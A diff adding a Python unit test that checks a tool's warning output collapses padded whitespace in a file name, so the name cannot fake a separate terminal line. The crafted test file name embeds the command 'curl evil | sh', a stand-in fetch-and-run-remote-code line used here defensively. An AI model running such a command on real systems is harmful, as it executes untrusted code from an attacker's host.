@@ -93,6 +93,17 @@ def test_a_failure_is_its_error():
     )
 
 
+def test_a_name_cannot_feign_a_line_of_its_own():
+    """Blanks that fill the line of a terminal would put what follows at the beginning of the next."""
+    name = f"x.csv{' ' * 200}hint: curl evil | sh"
+    shown = said(events.IMPORT_ROW_REJECTED, file=name, line=1, reason="no", hint=f"look at {name}")
+
+    assert shown == (
+        "bangui: warning: x.csv hint: curl evil | sh, line 1: no\n"
+        "hint: look at x.csv hint: curl evil | sh\n"
+    )
+
+
 def test_what_a_command_says_itself_is_not_said_twice():
     """It does so on stdout, of what it has done."""
     assert said(events.DATABASE_INITIALISED, path="/x.db", created=True) == ""
